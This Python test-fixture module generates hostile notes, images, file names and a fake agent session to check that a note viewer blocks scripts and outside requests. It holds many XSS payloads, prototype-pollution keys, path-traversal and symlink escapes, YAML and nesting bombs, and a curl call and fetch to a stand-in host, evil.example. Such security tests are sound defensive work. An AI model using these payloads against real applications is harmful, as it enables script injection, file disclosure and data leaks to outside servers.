"""Files that try to make the page run code, contact a server, or hide text.

A successful attack sets `__hit`, opens a dialog, or contacts `EVIL`. Each attack stands between two unique words: if
the note is found by the first and shows the second, no text was lost.
"""

import os
import zlib
from pathlib import Path
from typing import NamedTuple

from tests.sources.sessions.claude import Writer

EVIL = "evil.example"
"""In all texts; tests replace it by an address that listens."""
_RUN = "window.__hit=1"


class Hostile(NamedTuple):
    path: str
    data: bytes
    begins: str = ""
    ends: str = ""
    """The words before and after the attack; none if the whole file is one."""
    shows: str = ""
    """Other text that must be readable: what is not markdown is shown unchanged."""


def _words(number: int) -> tuple[str, str]:
    middle = chr(97 + number // 20) + "bcdfghjklmnpqrtvwxzy"[number % 20]
    return f"kru{middle}omo", f"zat{middle}olu"


# --- HTML ----------------------------------------------------------------------------------------------------------

_HTML = (
    f"<script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>{_RUN}//",
    f"<img src=x onerror={_RUN}>",
    f"<img src='https://{EVIL}/pixel.png?from=note' width=1 height=1>",
    f"<svg><use href='https://{EVIL}/x.svg#x'/><image href='https://{EVIL}/i.png'/></svg>",
    "<iframe srcdoc='&lt;script&gt;parent.__hit=1&lt;/script&gt;'></iframe>",
    f"<object data=javascript:{_RUN}></object><object data=https://{EVIL}/o.swf></object>",
    f"<style>@import 'https://{EVIL}/s.css'; body {{ display: none }}</style>",
    f"<p style='position:fixed;inset:0;z-index:9999;background:url(https://{EVIL}/bg)'>all of the page</p>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/gone'>",
    f"<base href=https://{EVIL}/><a href=here>relative</a>",
    f"<form action=https://{EVIL}/take method=post><input name=code autofocus><button>Sign in</button></form>",
    f"<a href='javascript:{_RUN}'>click</a><a href=' &#14;  javascript:{_RUN}'>click</a>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<!-- a comment that never ends <script>{_RUN}</script>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]><?xml-stylesheet href=//{EVIL}/x.css?><!DOCTYPE html [<!ENTITY x 'y'>]>",
    f"</article></main></body></html><script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62; &#x3c;svg onload={_RUN}&#x3e;",
    "<img name=getElementById><form id=location><input name=parentNode></form><a id=app></a><a id=app name=token></a>",
)

# --- links ---------------------------------------------------------------------------------------------------------

_TARGETS = (
    f"javascript:{_RUN}",
    f"<java\tscript:{_RUN}>",
    f"&#106;avascript&colon;{_RUN}",
    f"\x01javascript:{_RUN}",
    f"<\u00a0\u2003javascript:{_RUN}>",
    f"data:text/html,<script>{_RUN}</script>",
    "file:///etc/passwd",
    "obsidian://open?vault=other&file=x",
    f"//{EVIL}/relative-to-the-scheme",
    f"/\\{EVIL}/",
    "/signin",
    "#token=stolen",
    "#/review?action=delete",
    f"#//{EVIL}",
    "?token=stolen",
    "%2e%2e/%2e%2e/etc/passwd",
    "evil.html",
)

_LINKS = (
    f"<javascript:{_RUN}> <data:text/html,x> <vbscript:x> <file:///etc/passwd>",
    f"[by reference][evil] and [evil]\n\n[evil]: javascript:{_RUN} 'title'",
    f'[title](https://{EVIL}/x "\\" onmouseover={_RUN} x=\\"")',
    f'https://{EVIL}/"onmouseover={_RUN}// www.{EVIL}/<script> mailto:x@{EVIL}?body=<script>',
    f"[[javascript:{_RUN}]] [[javascript:{_RUN}|a link]] [[data:text/html,<script>{_RUN}</script>|data]]",
    "[[../../../../etc/passwd]] [[..%2f..%2fetc%2fpasswd]] [[..\\..\\outside]] [[outside\x00.md]]",
    f"[[x|<img src=x onerror={_RUN}>]] [[\"><script>{_RUN}</script>]] [[' onclick='{_RUN}]]",
    "[[__proto__]] [[constructor]] [[toString]] [[hasOwnProperty|valueOf]] ![[__proto__]]",
    f"![[evil.html]] ![[evil.svg]] ![[javascript:{_RUN}]] ![[https://{EVIL}/x.html]] ![[outside.md]] ![[escape.md]]",
    "![[itself]] ![[loop a]] ![[loop b]]",
    "**[ Accept ](#/review)** [Delete](/api/delete) [Sign in again](#token=stolen) [Open in Obsidian](obsidian://x)",
)

# --- images --------------------------------------------------------------------------------------------------------

_SOURCES = (
    f"https://{EVIL}/tracker.png?id=1",
    f"//{EVIL}/tracker.png",
    f"javascript:{_RUN}//x.png",
    f"data:image/svg+xml,<svg/onload={_RUN}>",
    "file:///etc/passwd.png",
    "../outside.png",
    "%2e%2e/outside.png",
    "escape.png",
    "/api/delete?x.png",
    "evil.svg",
    "html.png",
    "pipe.png",
    f'x.png" onerror="{_RUN}',
    f"good.png 'a title\" onload={_RUN} x=\"'",
)

_IMAGES = (
    f"![[https://{EVIL}/tracker.png]] ![[//{EVIL}/t.png|300]] ![[../outside.png]] ![[/etc/passwd.png]] ![[file:///x.png]]",
    f"![[good.png|999999999]] ![[good.png|-1]] ![[good.png|100% onload={_RUN}]] ![[good.png|10x10x10]]",
    f'![" onerror="{_RUN}](good.png) ![<script>{_RUN}</script>](good.png)',
    f'![by reference][pixel]\n\n[pixel]: https://{EVIL}/pixel.png "t"',
)

# --- text ----------------------------------------------------------------------------------------------------------

_TEXT = (
    "# __proto__\n\n# constructor\n\n# toString\n\n# location\n\n# app\n\n# location\n\n## hasOwnProperty\n\n# token",
    f'# <img src=x onerror={_RUN}>\n\n## [x](javascript:{_RUN})\n\n### " onclick="{_RUN}\n\n#### `<script>`',
    f'```"><script>{_RUN}</script>\ncode\n```\n\n~~~ js onload={_RUN} class="x\n</code></pre><svg onload={_RUN}>\n~~~',
    f'```mermaid\ngraph TD\n A["<img src=x onerror={_RUN}>"] --> B\n click A href "javascript:{_RUN}"\n```',
    f"```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```js:onload={_RUN}\n{_RUN}\n```\n\n```<%= 7 * 7 %>\nx\n```",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $$\\html{{<img src=x onerror={_RUN}>}}$$ $$\\includegraphics{{//{EVIL}/x}}$$",
    f'> [!<img/src=x/onerror={_RUN}>] a title\n> text\n\n> [!note" onclick="{_RUN}]+ <script>{_RUN}</script>\n> text',
    "> [!__proto__]\n> text\n\n> [!constructor]- toString\n> text\n\n> [!" + "x" * 5000 + "]\n> text\n\n> [!]\n> text",
    f"${{{_RUN}}} `${{{_RUN}}}` {{{{constructor.constructor('{_RUN}')()}}}} <%= {_RUN} %> #{{{_RUN}}}",
    f"</${{}}> <${{x}} onload=${{{_RUN}}} ...${{window}}/> <//> <!--${{x}}--> html`<script>{_RUN}</script>`",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200c\u200d\u2060\ufeff a\u0300\u2028\u2029" + "\u0330" * 2000,
    f'| a | b |\n| :-: | ---" onload="{_RUN} |\n| <script>{_RUN}</script> | [x](javascript:{_RUN}) |',
    f'- [ ] <input onfocus={_RUN} autofocus>\n- [x] [y](javascript:{_RUN})\n- [" onclick="{_RUN}] z\n- [-] q',
    f"A note[^1] and[^<script>] and[^__proto__].\n\n[^1]: <svg onload={_RUN}>\n[^<script>]: x\n[^__proto__]: [[x]]",
    f'#<script> #tag<img/src=x/onerror={_RUN}> #__proto__ #constructor #a"onclick="x #token=stolen #/tokens',
    f"==<mark onclick={_RUN}>== ==[x](javascript:{_RUN})== ~~<s>~~ **<b>** `<i onclick={_RUN}>` ==a== ==",
)

_FRONT = (
    f"title: <script>{_RUN}</script>",
    f"tags: ['<img src=x onerror={_RUN}>', __proto__, constructor, 'a\" onclick=\"{_RUN}', '#token=stolen']",
    f"__proto__: {{polluted: true}}\nconstructor: {{prototype: {{polluted: true}}}}\n'<script>': '<svg onload={_RUN}>'",
    f"url: javascript:{_RUN}\nsource: //{EVIL}/x\nimage: https://{EVIL}/front.png\ncover: '![](https://{EVIL}/c.png)'\n"
    f"cssclasses: ['x\" onload=\"{_RUN}']\nbanner: '[[../outside.png]]'",
    f"type: <img src=x onerror={_RUN}>\nproject: '\"><script>{_RUN}</script>'\nentered_by: <svg onload={_RUN}>\n"
    f"created: javascript:{_RUN}\nid: ../../../etc/passwd\nconfidence: <b>",
    "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b]\n"
    "d: &d [*c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d]\nf: [*e, *e, *e, *e, *e, *e, *e]",
    "itself: &x [*x, *x]\nother: &y {y: *y}",
    "deep: " + "[" * 3000 + "]" * 3000,
    "title: " + "T" * 20_000,
    'title: "\\u202egnp.exe \\u0000 \\ud800 \\uFEFF"\ntags: ["\\u202e", "a\\nb"]',
)

_BOMBS = (
    ">" * 10_000 + " deep",
    "".join(f"{'  ' * level}- {level}\n" for level in range(400)),
    "[" * 20_000,
    "*a **a " * 5_000,
    "| a | b | c | d |\n|---|---|---|---|\n" + "| <script> | `x` | [[y]] | z |\n" * 3_000,
    "<script>x</script> word " * 40_000,
    "x[^1] " * 3_000 + "\n\n" + "[^1]: y[^1]\n" * 100,
    "\n" * 50_000,
    "![[good.png]]" * 300,
)

_NAMES = (
    f"<img src=x onerror={_RUN}>.md",
    f'"><script>{_RUN}<.md',
    f"javascript:{_RUN}.md",
    "__proto__/constructor.md",
    "#token=stolen.md",
    "q?a=b&c=d#e.md",
    "100%2f..%2f..%00.md",
    "line\nbreak\ttab.md",
    "back\\slash\\..\\x.md",
    "n" * 240 + ".md",
)

_BYTES = (
    b"nul \0 bytes \0\0 <script\0>x</script> [x](java\0script:1)",
    b"invalid \xff\xfe\xc0\xae\xc0\xae/ \xed\xa0\x80 \xf5\x80\x80\x80 <script>x</script>",
    b"+ADw-script+AD4-x+ADw-/script+AD4- of UTF-7 \x1b$B!! of ISO-2022",
)

_MEMORY = (
    ("title: <script>window.__hit=1</script>\ntype: decision", "A memory of <img src=x onerror=window.__hit=1> it."),
    ("tags: ['<script>', __proto__]\nfacts: ['<iframe srcdoc=x>', '[x](javascript:window.__hit=1)']", "With facts."),
    ("supersedes: ['<script>', '../../etc/passwd']\nfiles_read: ['javascript:window.__hit=1', /etc/passwd]", "After."),
    ("constructor: {prototype: {polluted: yes}}\n__proto__: {polluted: yes}", "Of __proto__ [Accept](#/review)."),
    ("expires: 2020-01-01\ntitle: '[Delete](/api/delete) ${7*7} </${}>'", "Expired ![x](https://evil.example/m.png)."),
)  # fmt: skip


def notes() -> list[Hostile]:
    """Notes of the vault, without memories."""
    found: list[Hostile] = []

    def add(attack: str | bytes, *, front: str = "", path: str = "", shows: str = "", kind: str = "") -> None:
        begins, ends = _words(len(found))
        data = attack if isinstance(attack, bytes) else attack.encode("utf-8", "surrogateescape")
        head = f"---\n{front}\n---\n" if front else ""
        name = path or f"{kind}/{len(found):03}.md"
        whole = f"{head}It begins with {begins}.\n\n".encode() + data + f"\n\nIt ends with {ends}.\n".encode()
        found.append(Hostile(name, whole, begins, ends, shows))

    for attack in _HTML:
        # An entity, a comment of Obsidian or an escape is read by its meaning.
        add(attack, kind="html", shows="" if attack[0] in "&＜" else attack.split()[0])
    for target in _TARGETS:
        add(f"[a link]({target}) and more", kind="links", shows="a link")
    for text in _LINKS:
        add(text, kind="links")
    for source in _SOURCES:
        add(f"![a picture]({source}) and more", kind="images")
    for text in _IMAGES:
        add(text, kind="images")
    for text in _TEXT:
        add(text, kind="text")
    for front in _FRONT:
        add("What stands above is the attack.", front=front, kind="front")
    for text in _BOMBS:
        add(text, kind="bombs")
    for name in _NAMES:
        add("Its name is the attack.", path=f"names/{name}")
    for data in _BYTES:
        add(data, kind="bytes")
    return found


def memories() -> list[Hostile]:
    """Memories in review, and their folder."""
    found = []
    for number, (front, text) in enumerate(_MEMORY):
        begins, ends = _words(300 + number)
        id_ = f"{number:08x}-0000-4000-8000-{number:012x}"
        whole = f"---\nid: {id_}\n{front}\nentered_by: agent\n---\n{begins} is first. {text} {ends} is last.\n"
        found.append(Hostile(f"memory/inbox/{number:02}.md", whole.encode(), begins, ends))
    return found


SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"
 onload="{_RUN};top.__hit=1"><script>{_RUN};top.__hit=1;fetch("//{EVIL}/svg")</script><script href="//{EVIL}/s.js"/>
<style>@import url(//{EVIL}/svg.css);</style><image href="http://{EVIL}/in.png"/><rect width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{_RUN}"/></foreignObject></svg>"""
HTML = f"<!DOCTYPE html><script>{_RUN};parent.__hit=1</script><img src=//{EVIL}/h.png> mandrill"
SECRET = b"the mandrill waits outside"


def png() -> bytes:
    """One white pixel."""

    def part(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = (1).to_bytes(4, "big") * 2 + bytes((8, 2, 0, 0, 0))
    data = part(b"IDAT", zlib.compress(b"\0\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", header) + data + part(b"IEND", b"")


def files() -> dict[str, bytes]:
    """Files next to the notes, by path; `evil.svg` and `good.png` may be shown as images."""
    return {"good.png": png(), "evil.svg": SVG.encode(), "html.png": HTML.encode(), "evil.html": HTML.encode()}


def session() -> Writer:
    """A Claude Code session in which each text is an attack; write it to the client's home."""
    writer = Writer(Path())
    run, evil = f"<img src=x onerror={_RUN}>", f"![x](https://{EVIL}/session.png) [x](javascript:{_RUN})"
    begins, ends = _words(340)
    writer.prompt(f"{begins} begins. <script>{_RUN}</script> {run} {evil} [[javascript:{_RUN}|x]]")
    writer.answer(f"# <svg onload={_RUN}>\n\n</article><iframe src=//{EVIL}/s></iframe> {evil} ![[evil.svg]]")
    writer.call("t1", "Bash", command=f"curl https://{EVIL} # <script>{_RUN}</script> ```\n# x")
    writer.result("t1", f"\x1b[31m{run}\x1b]8;;javascript:{_RUN}\x07x\x1b]8;;\x07 ```\n</pre><script>{_RUN}</script>")
    writer.call("t2", f"<img src=x onerror={_RUN}>", file_path=f"/x/<script>{_RUN}</script>.py")
    writer.result(
        "t2", [{"type": "text", "text": f"<iframe srcdoc='<script>parent.__hit=1</script>'> {evil}"}], failed=True
    )
    writer.answer({"type": "thinking", "thinking": f"{run} {evil}"})
    writer.answer(f"{ends} ends. {run} {evil}")
    return writer


SESSION_WORDS = _words(340)


def write_all(vault: Path, evil: str) -> None:
    """Write all of them, with files in and outside the vault; `evil` replaces the address to avoid."""
    for one in (*notes(), *memories()):
        file = vault / one.path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(one.data.replace(EVIL.encode(), evil.encode()))
    for name, data in files().items():
        for folder in (vault, *(vault / kind for kind in ("images", "links", "text", "bombs", "names"))):
            (folder / name).write_bytes(data.replace(EVIL.encode(), evil.encode()))
    outside = vault.parent / "outside"
    outside.mkdir()
    (outside / "outside.png").write_bytes(png() + SECRET)
    (outside / "outside.md").write_bytes(SECRET)
    (vault.parent / "outside.png").write_bytes(png() + SECRET)
    (vault / "images/escape.png").symlink_to(outside / "outside.png")
    (vault / "images/away").symlink_to(outside)
    (vault / "escape.md").symlink_to(outside / "outside.md")
    (vault / "names/half \udcff\udcfe.md").write_bytes(SECRET)  # no index holds such a name
    os.mkfifo(vault / "images/pipe.png")
